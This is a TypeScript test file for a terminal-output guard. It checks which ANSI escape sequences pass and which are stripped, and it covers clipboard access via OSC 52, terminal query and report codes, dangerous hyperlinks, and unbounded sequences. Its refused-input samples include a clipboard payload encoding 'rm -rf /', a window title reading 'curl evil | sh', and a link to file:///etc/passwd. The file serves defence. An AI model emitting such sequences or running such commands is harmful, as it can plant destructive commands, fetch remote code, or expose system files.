import { describe, expect, it } from 'vitest'
import { Guard } from './guard'

const ESC = '\u001b'
const BEL = '\u0007'
const make = (tellsCursor = true) => new Guard({ most: () => 100, tellsCursor: () => tellsCursor })
const passed = (text: string, tellsCursor = true) => make(tellsCursor).filter(text)

/** What a program may print to be seen. */
const SHOWN = [
  'plain text, 中文 and 😀\r\n',
  `${ESC}[1;31mred${ESC}[0m`,
  `${ESC}[38;2;255;128;0mtrue colour${ESC}[m`,
  `${ESC}[2J${ESC}[H`,
  `${ESC}[?1049h${ESC}[?2004h${ESC}[?25l`,
  `${ESC}[?1000;1006h`,
  `${ESC}(B${ESC}7${ESC}8${ESC}=${ESC}M`,
  `${ESC}[10;20H${ESC}[3A${ESC}[5X${ESC}[4 q`,
  `${ESC}[u${ESC}[s`,
]

/** What would type, copy, open or tell something. */
const REFUSED: Record<string, string> = {
  'the clipboard is written (OSC 52)': `${ESC}]52;c;cm0gLXJmIC8=${BEL}`,
  'the clipboard is read (OSC 52)': `${ESC}]52;c;?${ESC}\\`,
  'a title is set': `${ESC}]0;curl evil | sh${BEL}`,
  'a title is reported': `${ESC}[21t`,
  'an icon name is reported': `${ESC}[20t`,
  'the window is asked for its size': `${ESC}[18t`,
  'the terminal is asked who it is (DA1)': `${ESC}[c`,
  'the terminal is asked who it is (DA2)': `${ESC}[>0c`,
  'the terminal is asked who it is (DA3)': `${ESC}[=c`,
  'the terminal is asked who it is (DECID)': `${ESC}Z`,
  'the terminal is asked its version': `${ESC}[>0q`,
  'its state is asked (DECRQSS)': `${ESC}P$q"p${ESC}\\`,
  'its capabilities are asked (XTGETTCAP)': `${ESC}P+q544e${ESC}\\`,
  'its parameters are asked (DECREQTPARM)': `${ESC}[0x`,
  'a mode is asked (DECRQM)': `${ESC}[?2004$p`,
  'its health is asked (DSR 5)': `${ESC}[5n`,
  'the printer is asked (DSR ?15)': `${ESC}[?15n`,
  'colours are asked': `${ESC}]11;?${BEL}${ESC}]4;1;?${BEL}`,
  'the focus is reported': `${ESC}[?1004h`,
  'a key protocol is asked': `${ESC}[?u`,
  'a link runs a script': `${ESC}]8;;javascript:alert(1)${BEL}`,
  'a link opens a file': `${ESC}]8;;file:///etc/passwd${ESC}\\`,
  'a macro is defined (APC, PM, SOS)': `${ESC}_Gf=100;AAAA${ESC}\\${ESC}^x${ESC}\\${ESC}Xx${ESC}\\`,
  'the same in one-character controls': `\u009d52;c;eA==\u009c\u009bc\u0090$q"p\u009c`,
  'the answer is hidden in a broken sequence': `${ESC}[0${ESC}[c`,
}
const ST_LEFT = new RegExp(`${ESC}\\\\`, 'g')

describe('what is shown', () => {
  it.each(SHOWN)('passes unchanged: %j', (text) => {
    expect(passed(text)).toBe(text)
  })

  it.each(SHOWN.concat(Object.values(REFUSED)))('is the same however the pieces are cut: %j', (text) => {
    const whole = passed(text)
    for (let cut = 1; cut < text.length; cut += 1) {
      const guard = make()
      expect(guard.filter(text.slice(0, cut)) + guard.filter(text.slice(cut))).toBe(whole)
    }
    const guard = make()
    expect([...text].map((sign) => guard.filter(sign)).join('')).toBe(whole)
  })

  it('keeps a link to the web, closes it, and drops what it is not', () => {
    const link = `${ESC}]8;id=1;https://gitlab.example/x${BEL}text${ESC}]8;;${BEL}`
    expect(passed(link)).toBe(link)
    expect(passed(`${ESC}]8;;HTTP://a.b/${ESC}\\x`).replace(ST_LEFT, '')).toBe(`${ESC}]8;;HTTP://a.b/${BEL}x`)
  })

  it('goes on with the line after a control inside a sequence', () => {
    expect(passed(`${ESC}[3\n1mx`)).toBe(`\n${ESC}[31mx`)
    expect(passed(`${ESC}[31\u0018x`)).toBe('x')
  })
})

describe('what is refused', () => {
  it.each(Object.entries(REFUSED))('%s: nothing of it arrives', (_, text) => {
    expect(passed(`before${text}after`).replace(ST_LEFT, '')).toBe('beforeafter')
  })

  it('leaves the other modes of the same sequence', () => {
    expect(passed(`${ESC}[?1004;1006h`)).toBe(`${ESC}[?1006h`)
  })

  it('tells where the cursor is only where the shell may hear it', () => {
    expect(passed(`${ESC}[6n`)).toBe(`${ESC}[6n`)
    expect(passed(`${ESC}[6n`, false)).toBe('')
    expect(passed(`${ESC}[?6n`)).toBe('')
  })

  it('bounds counts to the screen, and colours and modes not', () => {
    expect(passed(`${ESC}[2147483647b${ESC}[99999999999L${ESC}[50A`)).toBe(`${ESC}[100b${ESC}[100L${ESC}[50A`)
    expect(passed(`${ESC}[38;5;208m${ESC}[?2026h`)).toBe(`${ESC}[38;5;208m${ESC}[?2026h`)
  })
})

describe('what never ends', () => {
  const PIECE = 'A'.repeat(32_768)

  it.each([`${ESC}]52;c;`, `${ESC}P`, `${ESC}_`, `${ESC}[`, '\u009d0;'])(
    '%j and 10 MB: nothing is kept of it',
    (begin) => {
      const guard = make()
      guard.filter(begin)
      let out = 0
      for (let n = 0; n < 320; n += 1) out += guard.filter(begin === `${ESC}[` ? '1'.repeat(32_768) : PIECE).length
      expect(out).toBe(0)
      expect(JSON.stringify(guard).length).toBeLessThan(10_000)
    },
  )

  it('shows the next line again when it has gone on for too long', () => {
    const guard = make()
    expect(guard.filter(`${ESC}]0;${PIECE}\nstill inside`)).toBe('')
    guard.filter(PIECE)
    expect(guard.filter('lost\n$ ls\n')).toBe('\n$ ls\n')
  })

  it('drops a link whose address is too long', () => {
    expect(passed(`${ESC}]8;;https://a.b/${PIECE}${BEL}text`)).toBe('text')
  })
})
